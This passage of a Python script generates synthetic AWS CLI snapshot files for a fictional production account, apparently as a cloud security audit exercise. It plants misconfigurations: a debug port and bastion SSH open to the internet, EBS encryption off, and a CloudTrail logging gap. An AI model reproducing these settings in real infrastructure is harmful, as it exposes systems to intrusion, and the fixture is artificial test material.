        "CidrBlockAssociationSet": [{"AssociationId": hexid("vpc-cidr-assoc", "prod"), "CidrBlock": VPC_CIDR,
                                     "CidrBlockState": {"State": "associated"}}],
        "IsDefault": False,
        "Tags": std_tags("prod-vpc"),
        "BlockPublicAccessStates": {"InternetGatewayBlockMode": "off"},
        "VpcId": VPC_ID,
        "State": "available",
        "CidrBlock": VPC_CIDR,
        "DhcpOptionsId": DHCP_ID,
    }]})

    used: dict[str, int] = {k: 0 for k in SUBNETS}
    for ip in ENI_IP.values():
        used[subnet_of_ip(ip)] += 1
    subnets = []
    for k, (name, cidr, az, tier) in SUBNETS.items():
        subnets.append({
            "AvailabilityZoneId": AZ_ID[az],
            "MapCustomerOwnedIpOnLaunch": False,
            "OwnerId": ACCOUNT,
            "AssignIpv6AddressOnCreation": False,
            "Ipv6CidrBlockAssociationSet": [],
            "Tags": std_tags(name) + tags(Tier=tier),
            "SubnetArn": f"arn:aws:ec2:{REGION}:{ACCOUNT}:subnet/{SUBNET_ID[k]}",
            "EnableDns64": False,
            "Ipv6Native": False,
            "PrivateDnsNameOptionsOnLaunch": {"HostnameType": "ip-name", "EnableResourceNameDnsARecord": False,
                                              "EnableResourceNameDnsAAAARecord": False},
            "BlockPublicAccessStates": {"InternetGatewayBlockMode": "off"},
            "SubnetId": SUBNET_ID[k],
            "State": "available",
            "VpcId": VPC_ID,
            "CidrBlock": cidr,
            "AvailableIpAddressCount": 251 - used[k],
            "AvailabilityZone": az,
            "DefaultForAz": False,
            "MapPublicIpOnLaunch": tier == "public",
        })
    tree.json(f"{d}/describe-subnets.json", {"Subnets": subnets})

    def local_route() -> dict:
        return {"DestinationCidrBlock": VPC_CIDR, "GatewayId": "local", "Origin": "CreateRouteTable", "State": "active"}

    def assoc(rtb: str, subnet: str | None) -> dict:
        a = {"Main": subnet is None, "RouteTableAssociationId": hexid("rtbassoc", f"{rtb}-{subnet}"), "RouteTableId": RTB_ID[rtb]}
        if subnet:
            a["SubnetId"] = SUBNET_ID[subnet]
        a["AssociationState"] = {"State": "associated"}
        return a

    def rtb(key: str, name: str, assocs: list, routes: list) -> dict:
        return {"Associations": assocs, "PropagatingVgws": [], "RouteTableId": RTB_ID[key], "Routes": routes,
                "Tags": std_tags(name), "VpcId": VPC_ID, "OwnerId": ACCOUNT}

    tree.json(f"{d}/describe-route-tables.json", {"RouteTables": [
        # the main table: local only; the db subnets have no explicit association and use it
        rtb("main", "prod-main-rt", [assoc("main", None)], [local_route()]),
        rtb("public", "prod-public-rt", [assoc("public", "public-a"), assoc("public", "public-b")],
            [local_route(), {"DestinationCidrBlock": "0.0.0.0/0", "GatewayId": IGW_ID, "Origin": "CreateRoute",
                             "State": "active"}]),
        rtb("private", "prod-private-rt", [assoc("private", "app-a"), assoc("private", "app-b")],
            [local_route(),
             {"DestinationCidrBlock": "0.0.0.0/0", "NatGatewayId": NAT_ID, "Origin": "CreateRoute", "State": "active"},
             {"DestinationPrefixListId": S3_PL, "GatewayId": VPCE_S3, "Origin": "CreateRoute", "State": "active"}]),
    ]})
    tree.json(f"{d}/describe-internet-gateways.json", {"InternetGateways": [{
        "Attachments": [{"State": "available", "VpcId": VPC_ID}], "InternetGatewayId": IGW_ID, "OwnerId": ACCOUNT,
        "Tags": std_tags("prod-igw")}]})
    tree.json(f"{d}/describe-egress-only-internet-gateways.json", {"EgressOnlyInternetGateways": []})
    nat_ip, nat_alloc, nat_assoc = EIP["nat"]
    tree.json(f"{d}/describe-nat-gateways.json", {"NatGateways": [{
        "CreateTime": cli_ts(utc(2025, 11, 4, 8, 33, 51)),
        "NatGatewayAddresses": [{"AllocationId": nat_alloc, "NetworkInterfaceId": ENI_ID["nat"], "PrivateIp": NAT_PRIVATE_IP,
                                 "PublicIp": nat_ip, "AssociationId": nat_assoc, "IsPrimary": True, "Status": "succeeded"}],
        "NatGatewayId": NAT_ID, "State": "available", "SubnetId": SUBNET_ID["public-a"], "VpcId": VPC_ID,
        "Tags": std_tags("prod-nat-a"), "ConnectivityType": "public", "AvailabilityMode": "zonal"}]})

    def perm(proto: str, frm: int | None, to: int | None, *, cidrs=(), cidrs6=(), groups=(), pls=()) -> dict:
        p: dict = {"IpProtocol": proto}
        if frm is not None:
            p["FromPort"], p["ToPort"] = frm, to
        p["UserIdGroupPairs"] = [dict(([("Description", desc)] if desc else []) + [("UserId", ACCOUNT), ("GroupId", SG_ID[g])])
                                 for g, desc in groups]
        p["IpRanges"] = [dict(([("Description", desc)] if desc else []) + [("CidrIp", c)]) for c, desc in cidrs]
        p["Ipv6Ranges"] = [dict(([("Description", desc)] if desc else []) + [("CidrIpv6", c)]) for c, desc in cidrs6]
        p["PrefixListIds"] = [dict(([("Description", desc)] if desc else []) + [("PrefixListId", pl)]) for pl, desc in pls]
        return p

    egress_all = [perm("-1", None, None, cidrs=[("0.0.0.0/0", None)])]
    ingress = {
        "default": [perm("-1", None, None, groups=[("default", None)])],
        "alb": [perm("tcp", 80, 80, cidrs=[("0.0.0.0/0", "HTTP, redirected to HTTPS")]),
                perm("tcp", 443, 443, cidrs=[("0.0.0.0/0", "HTTPS")])],
        "web": [perm("tcp", 80, 80, groups=[("alb", "HTTP from the ALB")]),
                perm("tcp", 22, 22, groups=[("bastion", "SSH from the bastion")])],
        "debug": [perm("tcp", 8080, 8080, cidrs=[("0.0.0.0/0", "temp test - remove")])],
        "bastion": [perm("tcp", 22, 22, cidrs=[("0.0.0.0/0", "ops on the road")], cidrs6=[("::/0", None)],
                         pls=[(OFFICE_PL, "office")])],
        "db": [perm("tcp", 3306, 3306, groups=[("web", "MySQL from the web servers")])],
    }
    names = {"default": "prod-default", "alb": "web-alb-sg", "web": "web-sg", "debug": "debug-sg",
             "bastion": "bastion-sg", "db": "db-sg"}
    sgs = []
    for k, (gname, desc) in SG.items():
        sgs.append({"GroupId": SG_ID[k], "IpPermissionsEgress": egress_all, "Tags": std_tags(names[k]), "VpcId": VPC_ID,
                    "SecurityGroupArn": f"arn:aws:ec2:{REGION}:{ACCOUNT}:security-group/{SG_ID[k]}", "OwnerId": ACCOUNT,
                    "GroupName": gname, "Description": desc, "IpPermissions": ingress[k]})
        if k == "default":
            sgs[-1]["Tags"] = []
    tree.json(f"{d}/describe-security-groups.json", {"SecurityGroups": sgs})

    def entry(rule: int, egress: bool, proto: str, cidr: str, action: str, ports: tuple[int, int] | None = None) -> dict:
        e: dict = {"CidrBlock": cidr, "Egress": egress}
        if ports:
            e["PortRange"] = {"From": ports[0], "To": ports[1]}
        e.update({"Protocol": proto, "RuleAction": action, "RuleNumber": rule})
        return e

    def acl_assoc(acl: str, subnet: str) -> dict:
        return {"NetworkAclAssociationId": hexid("aclassoc", f"{acl}-{subnet}"), "NetworkAclId": ACL_ID[acl],
                "SubnetId": SUBNET_ID[subnet]}

    allow_all = [entry(100, True, "-1", "0.0.0.0/0", "allow"), entry(32767, True, "-1", "0.0.0.0/0", "deny"),
                 entry(100, False, "-1", "0.0.0.0/0", "allow"), entry(32767, False, "-1", "0.0.0.0/0", "deny")]
    db_entries = [
        entry(100, True, "6", "10.0.10.0/24", "allow", (1024, 65535)),
        entry(110, True, "6", "10.0.11.0/24", "allow", (1024, 65535)),
        entry(32767, True, "-1", "0.0.0.0/0", "deny"),
        entry(100, False, "6", "10.0.10.0/24", "allow", (3306, 3306)),
        entry(110, False, "6", "10.0.11.0/24", "allow", (3306, 3306)),
        entry(120, False, "6", VPC_CIDR, "allow", (1024, 65535)),
        entry(32767, False, "-1", "0.0.0.0/0", "deny"),
    ]
    tree.json(f"{d}/describe-network-acls.json", {"NetworkAcls": [
        {"Associations": [acl_assoc("default", s) for s in ("public-a", "public-b", "app-a", "app-b")],
         "Entries": allow_all, "IsDefault": True, "NetworkAclId": ACL_ID["default"], "Tags": [], "VpcId": VPC_ID,
         "OwnerId": ACCOUNT},
        {"Associations": [acl_assoc("db", s) for s in ("db-a", "db-b")], "Entries": db_entries, "IsDefault": False,
         "NetworkAclId": ACL_ID["db"], "Tags": std_tags("prod-db-nacl"), "VpcId": VPC_ID, "OwnerId": ACCOUNT},
    ]})

    tree.json(f"{d}/describe-network-interfaces.json", {"NetworkInterfaces": [eni(k) for k in ENI_ID]})
    tree.json(f"{d}/describe-instances.json", {"Reservations": [reservation(k) for k in INSTANCES]})

    b_ip, b_alloc, b_assoc = EIP["bastion"]
    tree.json(f"{d}/describe-addresses.json", {"Addresses": [
        {"AllocationId": nat_alloc, "AssociationId": nat_assoc, "Domain": "vpc", "NetworkInterfaceId": ENI_ID["nat"],
         "NetworkInterfaceOwnerId": ACCOUNT, "PrivateIpAddress": NAT_PRIVATE_IP, "Tags": std_tags("prod-nat-a-eip"),
         "PublicIpv4Pool": "amazon", "NetworkBorderGroup": REGION, "PublicIp": nat_ip},
        {"AllocationId": b_alloc, "AssociationId": b_assoc, "Domain": "vpc", "NetworkInterfaceId": ENI_ID["bastion"],
         "NetworkInterfaceOwnerId": ACCOUNT, "PrivateIpAddress": INSTANCES["bastion"]["ip"],
         "Tags": std_tags("bastion-eip"), "PublicIpv4Pool": "amazon", "NetworkBorderGroup": REGION,
         "InstanceId": INSTANCE_ID["bastion"], "PublicIp": b_ip},
    ]})

    def pl(pid: str, name: str, owner: str, max_entries: int, version: int, tagl: list) -> dict:
        arn_owner = "aws" if owner == "AWS" else ACCOUNT
        return {"PrefixListId": pid, "AddressFamily": "IPv4", "State": "create-complete" if owner == "AWS" else "modify-complete",
                "PrefixListArn": f"arn:aws:ec2:{REGION}:{arn_owner}:prefix-list/{pid}", "PrefixListName": name,
                "MaxEntries": max_entries, "Version": version, "Tags": tagl, "OwnerId": owner}

    tree.json(f"{d}/describe-managed-prefix-lists.json", {"PrefixLists": [
        pl(DDB_PL, f"com.amazonaws.{REGION}.dynamodb", "AWS", 0, 0, []),
        pl(S3_PL, f"com.amazonaws.{REGION}.s3", "AWS", 0, 0, []),
        pl(OFFICE_PL, "office", ACCOUNT, 10, 2, std_tags("office", owner="it-team")),
    ]})
    tree.json(f"{d}/{OFFICE_PL}/get-managed-prefix-list-entries.json",
              {"Entries": [{"Cidr": OFFICE_CIDR, "Description": "office"}]})
    tree.json(f"{d}/{S3_PL}/get-managed-prefix-list-entries.json", {"Entries": [{"Cidr": c} for c in S3_PL_CIDRS]})

    tree.json(f"{d}/describe-vpc-endpoints.json", {"VpcEndpoints": [{
        "VpcEndpointId": VPCE_S3, "VpcEndpointType": "Gateway", "VpcId": VPC_ID,
        "ServiceName": f"com.amazonaws.{REGION}.s3", "State": "available",
        "PolicyDocument": compact({"Version": "2008-10-17", "Statement": [
            {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}),
        "RouteTableIds": [RTB_ID["private"]], "SubnetIds": [], "Groups": [], "IpAddressType": "ipv4",
        "PrivateDnsEnabled": False, "RequesterManaged": False, "NetworkInterfaceIds": [], "DnsEntries": [],
        "CreationTimestamp": cli_ts(utc(2025, 11, 4, 8, 36, 12)), "Tags": std_tags("prod-s3-endpoint"),
        "OwnerId": ACCOUNT}]})
    tree.json(f"{d}/describe-vpc-peering-connections.json", {"VpcPeeringConnections": []})
    tree.json(f"{d}/describe-transit-gateways.json", {"TransitGateways": []})
    tree.json(f"{d}/describe-transit-gateway-attachments.json", {"TransitGatewayAttachments": []})
    tree.json(f"{d}/describe-transit-gateway-route-tables.json", {"TransitGatewayRouteTables": []})
    tree.json(f"{d}/describe-flow-logs.json", {"FlowLogs": [{
        "CreationTime": cli_ts(utc(2025, 11, 4, 8, 45, 3, 511000)),
        "DeliverLogsStatus": "SUCCESS", "FlowLogId": FLOW_LOG_ID, "FlowLogStatus": "ACTIVE", "ResourceId": VPC_ID,
        "TrafficType": "ALL", "LogDestinationType": "s3", "LogDestination": f"arn:aws:s3:::{LOG_BUCKET}",
        "LogFormat": "${version} ${account-id} ${interface-id} ${srcaddr} ${dstaddr} ${srcport} ${dstport} "
                     "${protocol} ${packets} ${bytes} ${start} ${end} ${action} ${log-status}",
        "Tags": std_tags("prod-vpc-flow-logs"), "MaxAggregationInterval": 600,
        "DestinationOptions": {"FileFormat": "plain-text", "HiveCompatiblePartitions": False, "PerHourPartition": False}}]})
    tree.json(f"{d}/get-ebs-encryption-by-default.json", {"EbsEncryptionByDefault": False})

    vols = []
    for k, spec in INSTANCES.items():
        v = {"AvailabilityZoneId": AZ_ID[SUBNETS[spec["subnet"]][2]], "Iops": 3000,
             "Tags": std_tags(f"{k}-root"), "VolumeType": "gp3", "MultiAttachEnabled": False, "Throughput": 125,
             "VolumeId": VOLUME_ID[k], "Size": spec["root_gb"],
             "SnapshotId": hexid("snap", spec["ami"]), "AvailabilityZone": SUBNETS[spec["subnet"]][2], "State": "in-use",
             "CreateTime": cli_ts(spec["launch"] + dt.timedelta(milliseconds=482)),
             "Attachments": [{"DeleteOnTermination": True, "VolumeId": VOLUME_ID[k], "InstanceId": INSTANCE_ID[k],
                              "Device": "/dev/xvda", "State": "attached",
                              "AttachTime": cli_ts(spec["launch"])}],
             "Encrypted": spec["encrypted"]}
        if spec["encrypted"]:
            v["KmsKeyId"] = kms_arn("aws-ebs")
        vols.append(v)
    tree.json(f"{d}/describe-volumes.json", {"Volumes": vols})


def eni(k: str) -> dict:
    ip = ENI_IP[k]
    subnet = subnet_of_ip(ip)
    az = SUBNETS[subnet][2]
    e: dict = {}
    assoc = None
    if k == "nat":
        pub, alloc, aid = EIP["nat"]
        assoc = {"AllocationId": alloc, "AssociationId": aid, "IpOwnerId": ACCOUNT, "PublicDnsName": public_dns(pub), "PublicIp": pub}
    elif k == "bastion":
        pub, alloc, aid = EIP["bastion"]
        assoc = {"AllocationId": alloc, "AssociationId": aid, "IpOwnerId": ACCOUNT, "PublicDnsName": public_dns(pub), "PublicIp": pub}
    elif k.startswith("alb-"):
        pub = ALB_NODES[0 if k == "alb-a" else 1][2]
        assoc = {"IpOwnerId": "amazon", "PublicDnsName": public_dns(pub), "PublicIp": pub}
    if assoc:
        e["Association"] = assoc
    if k in INSTANCES:
        spec = INSTANCES[k]
        e["Attachment"] = {"AttachTime": cli_ts(spec["launch"]), "AttachmentId": hexid("eni-attach", k),
                           "DeleteOnTermination": True, "DeviceIndex": 0, "NetworkCardIndex": 0,
                           "InstanceId": INSTANCE_ID[k], "InstanceOwnerId": ACCOUNT, "Status": "attached"}
        groups, desc, itype, requester = spec["sgs"], "", "interface", None
    elif k.startswith("alb-"):
        e["Attachment"] = {"AttachmentId": "ela-attach-" + hexstr(k, 8), "DeleteOnTermination": False, "DeviceIndex": 1,
                           "InstanceOwnerId": "amazon-elb", "Status": "attached"}
        groups, desc, itype, requester = ["alb"], f"ELB {ALB_RESOURCE}", "interface", "amazon-elb"
    elif k == "nat":
        e["Attachment"] = {"AttachmentId": "ela-attach-" + hexstr(k, 8), "DeleteOnTermination": False, "DeviceIndex": 1,
                           "InstanceOwnerId": "amazon-aws", "Status": "attached"}
        groups, desc, itype, requester = [], f"Interface for NAT Gateway {NAT_ID}", "nat_gateway", "453420244670"
    else:  # rds
        e["Attachment"] = {"AttachmentId": "ela-attach-" + hexstr(k, 8), "DeleteOnTermination": False, "DeviceIndex": 1,
                           "InstanceOwnerId": "amazon-rds", "Status": "attached"}
        groups, desc, itype, requester = ["db"], "RDSNetworkInterface", "interface", "amazon-rds"
    e["AvailabilityZone"] = az
    e["Description"] = desc
    e["Groups"] = [{"GroupId": SG_ID[g], "GroupName": SG[g][0]} for g in groups]
    e["InterfaceType"] = itype
    e["Ipv6Addresses"] = []
    e["MacAddress"] = mac(k)
    e["NetworkInterfaceId"] = ENI_ID[k]
    e["OwnerId"] = ACCOUNT
    e["PrivateDnsName"] = private_dns(ip)
    e["PrivateIpAddress"] = ip
    pip: dict = {}
    if assoc:
        pip["Association"] = assoc
    pip.update({"Primary": True, "PrivateDnsName": private_dns(ip), "PrivateIpAddress": ip})
    e["PrivateIpAddresses"] = [pip]
    e["Ipv4Prefixes"] = []
    e["Ipv6Prefixes"] = []
    if requester:
        e["RequesterId"] = requester
    e["RequesterManaged"] = requester is not None
    e["SourceDestCheck"] = k != "nat"
    e["Status"] = "in-use"
    e["SubnetId"] = SUBNET_ID[subnet]
    e["TagSet"] = std_tags(k) if k in INSTANCES else []
    e["VpcId"] = VPC_ID
    e["AvailabilityZoneId"] = AZ_ID[az]
    return e


def reservation(k: str) -> dict:
    spec = INSTANCES[k]
    subnet = spec["subnet"]
    az = SUBNETS[subnet][2]
    ip = spec["ip"]
    groups = [{"GroupId": SG_ID[g], "GroupName": SG[g][0]} for g in spec["sgs"]]
    ni: dict = {}
    assoc = None
    if k == "bastion":
        pub = EIP["bastion"][0]
        assoc = {"IpOwnerId": ACCOUNT, "PublicDnsName": public_dns(pub), "PublicIp": pub}
        ni["Association"] = assoc
    ni.update({
        "Attachment": {"AttachTime": cli_ts(spec["launch"]), "AttachmentId": hexid("eni-attach", k),
                       "DeleteOnTermination": True, "DeviceIndex": 0, "Status": "attached", "NetworkCardIndex": 0},
        "Description": "", "Groups": groups, "Ipv6Addresses": [], "MacAddress": mac(k),
        "NetworkInterfaceId": ENI_ID[k], "OwnerId": ACCOUNT, "PrivateDnsName": private_dns(ip), "PrivateIpAddress": ip,
        "PrivateIpAddresses": [dict(([("Association", assoc)] if assoc else []) +
                                    [("Primary", True), ("PrivateDnsName", private_dns(ip)), ("PrivateIpAddress", ip)])],
        "SourceDestCheck": True, "Status": "in-use", "SubnetId": SUBNET_ID[subnet], "VpcId": VPC_ID,
        "InterfaceType": "interface", "Ipv4Prefixes": [], "Ipv6Prefixes": [],
    })
    inst: dict = {
        "Architecture": "x86_64",
        "BlockDeviceMappings": [{"DeviceName": "/dev/xvda", "Ebs": {
            "AttachTime": cli_ts(spec["launch"]), "DeleteOnTermination": True, "Status": "attached",
            "VolumeId": VOLUME_ID[k]}}],
        "ClientToken": det_uuid("client-token-" + k),
        "EbsOptimized": True,
        "EnaSupport": True,
        "Hypervisor": "xen",
    }
    if spec["profile"]:
        inst["IamInstanceProfile"] = {"Arn": INSTANCE_PROFILE_ARN, "Id": INSTANCE_PROFILE_ID}
    inst.update({
        "NetworkInterfaces": [ni],
        "RootDeviceName": "/dev/xvda",
        "RootDeviceType": "ebs",
        "SecurityGroups": groups,
        "SourceDestCheck": True,
        "Tags": std_tags(k) + tags(Role="bastion" if k == "bastion" else "web"),
        "VirtualizationType": "hvm",
        "CpuOptions": {"CoreCount": 1, "ThreadsPerCore": 2},
        "CapacityReservationSpecification": {"CapacityReservationPreference": "open"},
        "HibernationOptions": {"Configured": False},
        "MetadataOptions": {"State": "applied", "HttpTokens": spec["http_tokens"],
                            "HttpPutResponseHopLimit": 2 if spec["http_tokens"] == "required" else 1,
                            "HttpEndpoint": "enabled", "HttpProtocolIpv6": "disabled", "InstanceMetadataTags": "disabled"},
        "EnclaveOptions": {"Enabled": False},
        "BootMode": "uefi-preferred",
        "PlatformDetails": "Linux/UNIX",
        "UsageOperation": "RunInstances",
        "UsageOperationUpdateTime": cli_ts(spec["launch"]),
        "PrivateDnsNameOptions": {"HostnameType": "ip-name", "EnableResourceNameDnsARecord": False,
                                  "EnableResourceNameDnsAAAARecord": False},
        "MaintenanceOptions": {"AutoRecovery": "default", "RebootMigration": "default"},
        "CurrentInstanceBootMode": "legacy-bios",
        "NetworkPerformanceOptions": {"BandwidthWeighting": "default"},
        "Operator": {"Managed": False},
        "InstanceId": INSTANCE_ID[k],
        "ImageId": spec["ami"],
        "State": {"Code": 16, "Name": "running"},
        "PrivateDnsName": private_dns(ip),
        "PublicDnsName": public_dns(EIP["bastion"][0]) if k == "bastion" else "",
        "StateTransitionReason": "",
        "KeyName": spec["key"],
        "AmiLaunchIndex": 0,
        "ProductCodes": [],
        "InstanceType": spec["type"],
        "LaunchTime": cli_ts(spec["launch"]),
        "Placement": {"AvailabilityZoneId": AZ_ID[az], "GroupName": "", "Tenancy": "default", "AvailabilityZone": az},
        "Monitoring": {"State": "disabled"},
        "SubnetId": SUBNET_ID[subnet],
        "VpcId": VPC_ID,
        "PrivateIpAddress": ip,
    })
    if k == "bastion":
        inst["PublicIpAddress"] = EIP["bastion"][0]
    return {"ReservationId": hexid("r", k), "OwnerId": ACCOUNT, "Groups": [], "Instances": [inst]}


# ---------------------------------------------------------------------------------------------
# Snapshot: load balancer, database, functions, logging and detection services
# ---------------------------------------------------------------------------------------------
def elbv2_snapshot(tree: Tree) -> None:
    d = f"{REGION}/elbv2"
    tree.json(f"{d}/describe-load-balancers.json", {"LoadBalancers": [{
        "LoadBalancerArn": ALB_ARN, "DNSName": ALB_DNS, "CanonicalHostedZoneId": "Z35SXDOTRQ7X7K",
        "CreatedTime": cli_ts(ALB_CREATED), "LoadBalancerName": ALB_NAME, "Scheme": "internet-facing", "VpcId": VPC_ID,
        "State": {"Code": "active"}, "Type": "application",
        "AvailabilityZones": [{"ZoneName": SUBNETS[s][2], "SubnetId": SUBNET_ID[s], "LoadBalancerAddresses": []}
                              for s, _, _ in ALB_NODES],
        "SecurityGroups": [SG_ID["alb"]], "IpAddressType": "ipv4"}]})
    tree.json(f"{d}/describe-listeners.json", {"Listeners": [
        {"ListenerArn": LISTENER_ARN[80], "LoadBalancerArn": ALB_ARN, "Port": 80, "Protocol": "HTTP",
         "DefaultActions": [{"Type": "redirect", "Order": 1, "RedirectConfig": {
             "Protocol": "HTTPS", "Port": "443", "Host": "#{host}", "Path": "/#{path}", "Query": "#{query}",
             "StatusCode": "HTTP_301"}}]},
        {"ListenerArn": LISTENER_ARN[443], "LoadBalancerArn": ALB_ARN, "Port": 443, "Protocol": "HTTPS",
         "Certificates": [{"CertificateArn": CERT_ARN}], "SslPolicy": "ELBSecurityPolicy-TLS13-1-2-2021-06",
         "DefaultActions": [{"Type": "forward", "TargetGroupArn": TG_ARN, "Order": 1, "ForwardConfig": {
             "TargetGroups": [{"TargetGroupArn": TG_ARN, "Weight": 1}],
             "TargetGroupStickinessConfig": {"Enabled": False}}}],
         "MutualAuthentication": {"Mode": "off"}},
    ]})
    tree.json(f"{d}/describe-target-groups.json", {"TargetGroups": [{
        "TargetGroupArn": TG_ARN, "TargetGroupName": "web-tg", "Protocol": "HTTP", "Port": 80, "VpcId": VPC_ID,
        "HealthCheckProtocol": "HTTP", "HealthCheckPort": "traffic-port", "HealthCheckEnabled": True,
        "HealthCheckIntervalSeconds": 30, "HealthCheckTimeoutSeconds": 5, "HealthyThresholdCount": 5,
        "UnhealthyThresholdCount": 2, "HealthCheckPath": "/health", "Matcher": {"HttpCode": "200"},
        "LoadBalancerArns": [ALB_ARN], "TargetType": "instance", "ProtocolVersion": "HTTP1", "IpAddressType": "ipv4"}]})
    tree.json(f"{d}/{enc(TG_ARN)}/describe-target-health.json", {"TargetHealthDescriptions": [
        {"Target": {"Id": INSTANCE_ID[k], "Port": 80}, "HealthCheckPort": "80", "TargetHealth": {"State": "healthy"},
         "AdministrativeOverride": {"State": "no_override", "Reason": "AdministrativeOverride.NoOverride",
                                    "Description": "No override is currently active on target"}}
        for k in ("web-1", "web-2")]})
    # The ALB writes access logs to the network-logs bucket (the ELB statement of its policy); everything else
    # is at its default, deletion protection included.
    alb_attributes = [
        ("access_logs.s3.enabled", "true"), ("access_logs.s3.bucket", LOG_BUCKET), ("access_logs.s3.prefix", ""),
        ("connection_logs.s3.enabled", "false"), ("connection_logs.s3.bucket", ""),
        ("connection_logs.s3.prefix", ""), ("deletion_protection.enabled", "false"),
        ("idle_timeout.timeout_seconds", "60"), ("client_keep_alive.seconds", "3600"),
        ("routing.http.desync_mitigation_mode", "defensive"),
        ("routing.http.drop_invalid_header_fields.enabled", "false"),
        ("routing.http.preserve_host_header.enabled", "false"), ("routing.http.x_amzn_tls_version_and_cipher_suite.enabled", "false"),
        ("routing.http.xff_client_port.enabled", "false"), ("routing.http.xff_header_processing.mode", "append"),
        ("routing.http2.enabled", "true"), ("waf.fail_open.enabled", "false"),
        ("zonal_shift.config.enabled", "false"),
    ]
    tree.json(f"{d}/{enc(ALB_ARN)}/describe-load-balancer-attributes.json", {"Attributes": [
        {"Key": k, "Value": v} for k, v in alb_attributes]})


def rds_snapshot(tree: Tree) -> None:
    created = utc(2024, 6, 11, 14, 40, 12, 934000)
    tree.json(f"{REGION}/rds/describe-db-instances.json", {"DBInstances": [{
        "DBInstanceIdentifier": RDS_ID, "DBInstanceClass": "db.t3.medium", "Engine": "mysql",
        "DBInstanceStatus": "available", "MasterUsername": "admin", "DBName": "shop",
        "Endpoint": {"Address": RDS_ENDPOINT, "Port": 3306, "HostedZoneId": "Z2R2ITUGPM61AM"},
        "AllocatedStorage": 100, "InstanceCreateTime": cli_ts(created), "PreferredBackupWindow": "03:15-03:45",
        "BackupRetentionPeriod": 7, "DBSecurityGroups": [],
        "VpcSecurityGroups": [{"VpcSecurityGroupId": SG_ID["db"], "Status": "active"}],
        "DBParameterGroups": [{"DBParameterGroupName": "default.mysql8.0", "ParameterApplyStatus": "in-sync"}],
        "AvailabilityZone": "us-east-1a",
        "DBSubnetGroup": {"DBSubnetGroupName": "prod-db-subnets", "DBSubnetGroupDescription": "prod-db private subnets",
                          "VpcId": VPC_ID, "SubnetGroupStatus": "Complete",
                          "Subnets": [{"SubnetIdentifier": SUBNET_ID[s], "SubnetAvailabilityZone": {"Name": SUBNETS[s][2]},
                                       "SubnetOutpost": {}, "SubnetStatus": "Active"} for s in ("db-a", "db-b")]},
        "PreferredMaintenanceWindow": "sun:05:00-sun:05:30", "PendingModifiedValues": {},
        "LatestRestorableTime": cli_ts(SNAPSHOT_AT - dt.timedelta(minutes=4)), "MultiAZ": False,
        "EngineVersion": "8.0.40", "AutoMinorVersionUpgrade": True, "ReadReplicaDBInstanceIdentifiers": [],
        "ReadReplicaDBClusterIdentifiers": [], "LicenseModel": "general-public-license", "Iops": 3000,
        "StorageThroughput": 125,
        "OptionGroupMemberships": [{"OptionGroupName": "default:mysql-8-0", "Status": "in-sync"}],
        "PubliclyAccessible": False, "StorageType": "gp3", "DbInstancePort": 0, "StorageEncrypted": True,
        "KmsKeyId": kms_arn("rds"), "DbiResourceId": "db-" + alnum("dbi", 26, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
        "CACertificateIdentifier": "rds-ca-rsa2048-g1", "DomainMemberships": [], "CopyTagsToSnapshot": True,
        "MonitoringInterval": 0, "DBInstanceArn": f"arn:aws:rds:{REGION}:{ACCOUNT}:db:{RDS_ID}",
        "IAMDatabaseAuthenticationEnabled": False, "PerformanceInsightsEnabled": False,
        "EnabledCloudwatchLogsExports": [], "DeletionProtection": True, "AssociatedRoles": [],
        "TagList": std_tags(RDS_ID), "CustomerOwnedIpEnabled": False, "NetworkType": "IPV4",
        "ActivityStreamStatus": "stopped", "BackupTarget": "region",
        "CertificateDetails": {"CAIdentifier": "rds-ca-rsa2048-g1", "ValidTill": cli_ts(utc(2027, 6, 11, 14, 37, 0))},
        "DedicatedLogVolume": False, "IsStorageConfigUpgradeAvailable": False,
        "EngineLifecycleSupport": "open-source-rds-extended-support"}]})
    tree.json(f"{REGION}/rds/describe-event-subscriptions.json", {"EventSubscriptionsList": []})


def lambda_snapshot(tree: Tree) -> None:
    tree.json(f"{REGION}/lambda/list-functions.json", {"Functions": [{
        "FunctionName": FUNCTION, "FunctionArn": FUNCTION_ARN, "Runtime": "python3.12", "Role": rarn("thumbnailer-role"),
        "Handler": "app.handler", "CodeSize": 48213, "Description": "Resize product images uploaded to acme-web-assets",
        "Timeout": 30, "MemorySize": 512, "LastModified": "2026-03-12T09:46:31.000+0000",
        "CodeSha256": base64.b64encode(digest("lambda-code")).decode(), "Version": "$LATEST",
        "Environment": {"Variables": {"ASSETS_BUCKET": ASSETS_BUCKET, "THUMB_PREFIX": "thumbs/"}},
        "TracingConfig": {"Mode": "PassThrough"}, "RevisionId": det_uuid("lambda-revision"), "PackageType": "Zip",
        "Architectures": ["x86_64"], "EphemeralStorage": {"Size": 512},
        "SnapStart": {"ApplyOn": "None", "OptimizationStatus": "Off"},
        "LoggingConfig": {"LogFormat": "Text", "LogGroup": f"/aws/lambda/{FUNCTION}"}}]})
    policy = {"Version": "2012-10-17", "Id": "default", "Statement": [{
        "Sid": "s3-invoke-thumbnailer", "Effect": "Allow", "Principal": {"Service": "s3.amazonaws.com"},
        "Action": "lambda:InvokeFunction", "Resource": FUNCTION_ARN,
        "Condition": {"StringEquals": {"AWS:SourceAccount": ACCOUNT},
                      "ArnLike": {"AWS:SourceArn": f"arn:aws:s3:::{ASSETS_BUCKET}"}}}]}
    tree.json(f"{REGION}/lambda/{FUNCTION}/get-policy.json",
              {"Policy": compact(policy), "RevisionId": det_uuid("lambda-revision")})


def cloudtrail_snapshot(tree: Tree, latest_delivery: dt.datetime) -> None:
    d = f"{REGION}/cloudtrail"
    tree.json(f"{d}/describe-trails.json", {"trailList": [{
        "Name": TRAIL, "S3BucketName": TRAIL_BUCKET, "IncludeGlobalServiceEvents": True, "IsMultiRegionTrail": True,
        "HomeRegion": REGION, "TrailARN": TRAIL_ARN, "LogFileValidationEnabled": True, "HasCustomEventSelectors": True,
        "HasInsightSelectors": False, "IsOrganizationTrail": False}]})
    tree.json(f"{d}/{TRAIL}/get-trail-status.json", {
        "IsLogging": True,
        "LatestDeliveryTime": cli_ts(latest_delivery),
        "StartLoggingTime": cli_ts(START_LOGGING_AT),
        "StopLoggingTime": cli_ts(STOP_LOGGING_AT),
        "LatestDigestDeliveryTime": cli_ts(utc(2026, 3, 14, 11, 20, 31, 402000)),
        "LatestDeliveryAttemptTime": ct_ts(latest_delivery),
        "LatestNotificationAttemptTime": "",
        "LatestNotificationAttemptSucceeded": "",
        "LatestDeliveryAttemptSucceeded": ct_ts(latest_delivery),
